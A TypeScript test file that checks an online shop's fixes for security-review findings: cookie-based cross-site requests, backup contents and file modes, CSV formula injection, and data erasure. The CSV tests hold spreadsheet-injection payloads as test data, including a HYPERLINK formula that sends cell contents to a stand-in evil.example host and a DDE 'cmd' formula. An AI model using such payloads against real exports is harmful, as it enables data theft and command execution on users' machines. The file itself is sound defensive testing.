/**
 * The second security review's medium findings, each tried as the reviewer did: a sibling origin
 * posting `text/plain` JSON to the API with an admin's cookie; what a backup holds and how it is
 * stored; the modes of the files in DATA_DIR; formula-like names in the admin's CSV exports; and
 * what an erased customer leaves behind in the audit log, payment payloads and outbox.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { gunzipSync } from 'node:zlib';
import { eq, inArray } from 'drizzle-orm';
import pino from 'pino';
import { afterAll, describe, expect, it } from 'vitest';
import { adminUpdateUser } from '../../core/accounts/admin.ts';
import { eraseUser } from '../../core/accounts/privacy.ts';
import { users } from '../../core/db/schema/accounts.ts';
import { auditLog } from '../../core/db/schema/audit.ts';
import { recordAudit } from '../../core/audit/service.ts';
import { addToCart } from '../../core/cart/service.ts';
import { importProductsCsv, productsCsv } from '../../core/catalogue/manage.ts';
import { products } from '../../core/db/schema/catalogue.ts';
import { backupPglite, isDatabaseEntry, onlyDatabaseEntries, passwordApart } from '../../core/db/backup.ts';
import { outbox } from '../../core/db/schema/mail.ts';
import { queueMail } from '../../core/mail/service.ts';
import { ordersCsv } from '../../core/orders/admin.ts';
import { orders } from '../../core/db/schema/orders.ts';
import { createOrder } from '../../core/orders/service.ts';
import { payments } from '../../core/db/schema/payments.ts';
import { recordPayment } from '../../core/payments/service.ts';
import { openShop } from '../../core/shop.ts';
import { createCustomer, productWith } from '../helpers/customers.ts';
import { userWithCookie } from '../helpers/http.ts';
import { onPostgres } from '../helpers/shop.ts';
import { useTestSuite } from '../helpers/suite.ts';

const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'shop-security-2-'));
afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));

/** The entry names of an uncompressed ustar tarball. */
function tarNames(tar: Buffer): string[] {
  const names: string[] = [];
  const text = (b: Buffer) => b.toString('utf8').replace(/\0.*$/s, '');
  for (let o = 0; o + 512 <= tar.length;) {
    const h = tar.subarray(o, o + 512);
    if (h.every((b) => b === 0)) break;
    const prefix = text(h.subarray(345, 500));
    names.push((prefix ? `${prefix}/` : '') + text(h.subarray(0, 100)));
    o += 512 + Math.ceil(parseInt(text(h.subarray(124, 136)).trim() || '0', 8) / 512) * 512;
  }
  return names;
}

/** Every path below `dir` (files and folders) whose mode lets group or others in. */
function openToOthers(dir: string): string[] {
  const found: string[] = [];
  const walk = (p: string) => {
    const st = fs.lstatSync(p);
    if ((st.mode & 0o077) !== 0) found.push(`${path.relative(dir, p) || '.'} ${(st.mode & 0o777).toString(8)}`);
    if (st.isDirectory()) for (const n of fs.readdirSync(p)) walk(path.join(p, n));
  };
  walk(dir);
  return found;
}

describe('the JSON API takes no cookie', () => {
  const t = useTestSuite({ http: true });

  it('a same-site page posting text/plain JSON to user/setRole with the admin’s cookie changes no role (401)', async () => {
    const admin = await userWithCookie(t.shop, 'Admin');
    const victim = await createCustomer(t.shop);
    for (const headers of [
      { origin: 'http://blog.shop.test', 'sec-fetch-site': 'same-site' },
      { origin: 'http://shop.test:8080', 'sec-fetch-site': 'same-site' },
    ]) {
      const res = await t.http.fetch('/api/user/setRole', {
        method: 'POST',
        headers: { ...headers, 'content-type': 'text/plain' },
        body: JSON.stringify({ userID: victim.id, role: 'Admin' }),
        cookie: admin.cookie,
      });
      expect(res.status).toBe(401);
    }
    const [row] = await t.shop.db.select({ role: users.role }).from(users).where(eq(users.id, victim.id));
    expect(row.role).toBe('Customer');
    // the same call with the admin's header token still works (the contract's way)
    const ok = await t.http.fetch('/api/user/setRole', {
      method: 'POST',
      headers: { 'content-type': 'application/json', accestoken: admin.token },
      body: JSON.stringify({ userID: victim.id, role: 'Influencer' }),
    });
    expect(ok.status).toBe(200);
  });

  it('a GET with only the cookie is anonymous: user/list answers 401', async () => {
    const admin = await userWithCookie(t.shop, 'Admin');
    expect((await t.http.fetch('/api/user/list', { cookie: admin.cookie })).status).toBe(401);
    expect((await t.http.fetch('/api/user/list', { headers: { authorization: `Bearer ${admin.token}` } })).status).toBe(200);
  });
});

// registered on the PGlite run of the suite only: these open no PostgreSQL, so the PostgreSQL run
// would only repeat them (npm test runs both)
if (!onPostgres)
  describe('backups and the data directory', () => {
    const open = (dataDir: string) =>
      openShop(
        { NODE_ENV: 'test', LOG_LEVEL: 'silent', SESSION_SECRET: undefined, SMTP_URL: undefined, DATA_DIR: dataDir, DATABASE_URL: undefined },
        { logger: pino({ level: 'silent' }), catalogueFile: null },
      );

    it(
      'a PGlite backup holds the database only: no secrets.json, no photos, no lock file; 0600 in a new 0700 folder, an existing shared folder untouched',
      { timeout: 120_000 },
      async () => {
        const dataDir = path.join(tmp, 'data-backup');
        const shop = await open(dataDir);
        await shop.close();
        expect(fs.existsSync(path.join(dataDir, 'secrets.json'))).toBe(true); // generated: SESSION_SECRET unset
        fs.mkdirSync(path.join(dataDir, 'media', 'ab'), { recursive: true });
        fs.writeFileSync(path.join(dataDir, 'media', 'ab', 'photo.webp'), 'not really a photo');

        const file = path.join(tmp, 'backups', 'shop.pglite.tar.gz');
        await backupPglite(dataDir, file);
        const names = tarNames(gunzipSync(fs.readFileSync(file)));
        expect(names).toContain('/PG_VERSION');
        expect(names.some((n) => n.startsWith('/base/'))).toBe(true);
        expect(names.filter((n) => !isDatabaseEntry(n))).toEqual([]);
        expect(names.some((n) => /secrets|media|shop\.lock/.test(n))).toBe(false);
        expect(fs.statSync(file).mode & 0o777).toBe(0o600);
        expect(fs.statSync(path.dirname(file)).mode & 0o777).toBe(0o700);

        // a shared folder that exists (like /tmp) keeps its mode; the file is still 0600
        const shared = path.join(tmp, 'shared');
        fs.mkdirSync(shared);
        fs.chmodSync(shared, 0o1777);
        await backupPglite(dataDir, path.join(shared, 'shop.pglite.tar.gz'));
        expect(fs.statSync(shared).mode & 0o7777).toBe(0o1777);
        expect(fs.statSync(path.join(shared, 'shop.pglite.tar.gz')).mode & 0o777).toBe(0o600);
      },
    );

    it('the filter keeps PAX headers with their entry and ends the archive with two zero blocks', () => {
      const header = (name: string, type: string, size: number) => {
        const h = Buffer.alloc(512);
        h.write(name, 0);
        h.write(size.toString(8).padStart(11, '0'), 124);
        h.write(type, 156);
        h.write('ustar\0', 257);
        return h;
      };
      const tar = Buffer.concat([
        header('/secrets.json', '0', 3),
        Buffer.alloc(512, 1),
        header('/PaxHeader', 'x', 10),
        Buffer.alloc(512, 2),
        header('/base/1/112', '0', 0),
        Buffer.alloc(1024),
      ]);
      const out = onlyDatabaseEntries(tar);
      expect(tarNames(out)).toEqual(['/PaxHeader', '/base/1/112']);
      expect(out.length).toBe(512 * 3 + 1024);
    });

    it('pg_dump gets the password through PGPASSWORD, not on its command line', () => {
      const { url, env } = passwordApart('postgres://shop:s%40cret@db.internal:5432/shop?sslmode=require');
      expect(url).toBe('postgres://shop@db.internal:5432/shop?sslmode=require');
      expect(env.PGPASSWORD).toBe('s@cret');
      expect(passwordApart('postgres://postgres@127.0.0.1/test').url).toBe('postgres://postgres@127.0.0.1/test');
    });

    it('DATA_DIR is 0700 and no file in it, PGlite’s included, is open to other users', { timeout: 120_000 }, async () => {
      const dataDir = path.join(tmp, 'data-modes');
      // an older install: PGlite wrote its files 0666 and the folder was 0755
      const shop = await open(dataDir);
      await shop.db.insert(users).values({
        id: crypto.randomUUID(),
        email: 'modes@example.ch',
        passwordHash: 'x',
        firstName: 'Mode',
        lastName: 'Test',
        dateOfBirth: '1980-01-01',
        street: 'Gasse 1',
        postalCode: '8000',
        city: 'Zürich',
        country: 'CH',
        locale: 'de',
      });
      await shop.close();
      expect(openToOthers(dataDir)).toEqual([]);
      fs.chmodSync(dataDir, 0o755);
      fs.chmodSync(path.join(dataDir, 'PG_VERSION'), 0o666);
      const again = await open(dataDir);
      expect(fs.statSync(dataDir).mode & 0o777).toBe(0o700);
      expect(openToOthers(dataDir)).toEqual([]);
      await again.close();
      expect(openToOthers(dataDir)).toEqual([]);
    });
  });

describe('CSV exports neutralise formula cells', () => {
  const t = useTestSuite();

  it('a customer named =HYPERLINK(…) is text in the order CSV; so are names starting with +, - and @', async () => {
    const p = await productWith(t.shop, 50, 2000, 0);
    const names = ['=HYPERLINK("http://evil.example/?x="&A1;"Klick")', '+41 44 000', '-2+3', '@SUM(A1:A2)'];
    for (const firstName of names) {
      const c = await createCustomer(t.shop);
      await t.shop.db.update(users).set({ firstName, lastName: "d'Anjou" }).where(eq(users.id, c.id));
      await addToCart(t.shop.db, c.id, p.id, 1, c.id);
      await createOrder(t.shop, { userId: c.id, paymentMethod: 'qr-bill' });
    }
    const csv = await ordersCsv(t.shop, {});
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1;""Klick"") d'Anjou"`);
    expect(csv).toContain(`,'+41 44 000 d'Anjou,`);
    expect(csv).toContain(`,'-2+3 d'Anjou,`);
    expect(csv).toContain(`,'@SUM(A1:A2) d'Anjou,`);
    // no cell of any row starts with a formula character
    const cells = csv.split(/,|\n/).map((cell) => cell.replace(/^"/, ''));
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it('product names starting with =, tab or CR are text in the product CSV', async () => {
    const rows = await t.shop.db.select().from(products).orderBy(products.sku).limit(3);
    const names = ["=cmd|' /C calc'!A0", '\t=1+1', '\r=1+1'];
    for (let i = 0; i < 3; i++) await t.shop.db.update(products).set({ name: names[i] }).where(eq(products.id, rows[i].id));
    const csv = await productsCsv(t.shop.db);
    expect(csv).toContain(`,'=cmd|' /C calc'!A0,`);
    expect(csv).toContain(`,'\t=1+1,`);
    expect(csv).toContain(`,"'\r=1+1",`);
    expect(csv).not.toMatch(/(^|,)"?(=cmd|\t=|\r=)/m);
  });

  it("the shop's own export imports back unchanged: the leading ' of a neutralised cell is taken off", async () => {
    const [row] = await t.shop.db.select().from(products).orderBy(products.sku).limit(1);
    await t.shop.db.update(products).set({ name: '=HYPERLINK("http://evil.example")', brand: '@Brand' }).where(eq(products.id, row.id));
    const csv = await productsCsv(t.shop.db);
    expect(csv).toContain(`'=HYPERLINK`);
    const admin = await createCustomer(t.shop);
    const result = await importProductsCsv(t.shop.db, csv, { dryRun: false, adminId: admin.id });
    expect(result.problems).toEqual([]);
    const [after] = await t.shop.db.select().from(products).where(eq(products.id, row.id));
    expect(after.name).toBe('=HYPERLINK("http://evil.example")');
    expect(after.brand).toBe('@Brand');
  });
});

describe('erasure leaves no personal data behind', () => {
  const t = useTestSuite();

  it('the audit log, the payment payloads and the outbox no longer name the erased customer', async () => {
    const c = await createCustomer(t.shop);
    const p = await productWith(t.shop, 20, 3000, 1);
    await addToCart(t.shop.db, c.id, p.id, 1, c.id);
    const order = await createOrder(t.shop, { userId: c.id, paymentMethod: 'qr-bill' });
    await recordPayment(t.shop, {
      provider: 'bank',
      providerRef: `ref-${order.id}`,
      orderRef: order.code,
      amount: order.total,
      currency: 'CHF',
      exactAmount: false,
      raw: { debtorName: 'Anna Muster', debtorIban: 'CH9300762011623852957', note: `Zahlung Anna Muster ${c.email}`, amount: order.total },
    });
    await t.shop.db.update(orders).set({ status: 'shipped' }).where(eq(orders.id, order.id));
    // an admin corrects the phone and street: the audit entry holds old and new values
    await adminUpdateUser(t.shop.db, 'admin:someone', c.id, {
      firstName: 'Anna',
      lastName: 'Muster',
      phone: '+41 79 555 12 34',
      address: { street: 'Rämistrasse 71', postalCode: '8006', city: 'Zürich', country: 'CH' },
      role: 'Customer',
    });
    await recordAudit(t.shop.db, { actor: 'system', action: 'user.resetMail', entity: 'user', entityId: c.id, after: { to: c.email } });
    await recordAudit(t.shop.db, {
      actor: 'admin:x',
      action: 'order.note',
      entity: 'order',
      entityId: order.id,
      after: { note: 'Anna Muster called, leave at the door' },
    });
    await queueMail(
      t.shop.db,
      { to: 'shop@example.ch', subject: `New order from Anna Muster`, text: `Customer: Anna Muster <${c.email}>, Rämistrasse 71` },
      false,
    );
    const before = await t.shop.db
      .select()
      .from(auditLog)
      .where(inArray(auditLog.entityId, [c.id, order.id]));
    expect(JSON.stringify(before)).toContain('Seestrasse 5');

    await eraseUser(t.shop, 'admin:someone', c.id);

    const personal = [c.email, 'Anna', 'Muster', 'Seestrasse', 'Rämistrasse', '555 12 34', 'CH9300762011623852957'];
    const audit = JSON.stringify(await t.shop.db.select().from(auditLog));
    const pays = JSON.stringify(await t.shop.db.select().from(payments).where(eq(payments.orderId, order.id)));
    const mails = JSON.stringify(await t.shop.db.select().from(outbox));
    for (const value of personal) {
      expect(audit).not.toContain(value);
      expect(pays).not.toContain(value);
      expect(mails).not.toContain(value);
    }
    // the records themselves stay, with their ids, actions and amounts
    const after = await t.shop.db
      .select()
      .from(auditLog)
      .where(inArray(auditLog.entityId, [c.id, order.id]));
    expect(after.map((a) => a.action).sort()).toEqual([...before.map((a) => a.action), 'user.erase'].sort());
    expect(pays).toContain(`"amount":${order.total}`);
    expect(mails).toContain('New order from Erased');
  });
});
